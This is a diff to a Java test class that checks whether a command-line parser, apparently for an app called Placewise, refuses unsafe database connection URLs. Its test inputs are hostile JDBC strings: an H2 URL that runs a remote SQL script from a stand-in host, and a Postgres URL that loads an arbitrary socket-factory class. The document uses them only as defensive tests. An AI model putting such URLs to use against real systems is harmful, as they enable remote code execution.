@@ -157,6 +157,30 @@ class CommandLineTests {
 		assertThatThrownBy(() -> parse("status",
 				"--spring.datasource.url=jdbc:h2:file:/srv/p/data/placewise;init=RUNSCRIPT FROM 'http://example.invalid/x.sql'"))
 			.isInstanceOf(UsageException.class)
-			.hasMessageStartingWith("--spring.datasource.url cannot carry H2's INIT");
+			.hasMessageStartingWith("--spring.datasource.url takes an H2 file");
+	}
+
+	@Test
+	void aPostgresUrlWithAnOptionThatLoadsAClassIsRefused() {
+		assertThatThrownBy(() -> parse("status",
+				"--spring.datasource.url=jdbc:postgresql://db/placewise?socketFactory=org.example.Evil&socketFactoryArg=x"))
+			.isInstanceOf(UsageException.class)
+			.hasMessageStartingWith("--spring.datasource.url takes an H2 file");
+	}
+
+	@Test
+	void aStoreUrlOfAnotherKindIsRefused() {
+		assertThatThrownBy(() -> parse("status", "--spring.datasource.url=jdbc:h2:tcp://example.invalid/x"))
+			.isInstanceOf(UsageException.class)
+			.hasMessageStartingWith("--spring.datasource.url takes an H2 file");
+	}
+
+	@Test
+	void theStoreUrlsPlacewiseItselfUsesArePassedOn() {
+		CommandLine line = parse("status",
+				"--spring.datasource.url=jdbc:h2:file:/srv/place wise/data/placewise;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0");
+		assertThat(line.springArgs()).hasSize(1);
+		assertThat(parse("status", "--spring.datasource.url=jdbc:postgresql://127.0.0.1:54329/placewise?currentSchema=it_a&sslmode=require")
+			.springArgs()).hasSize(1);
 	}
 }
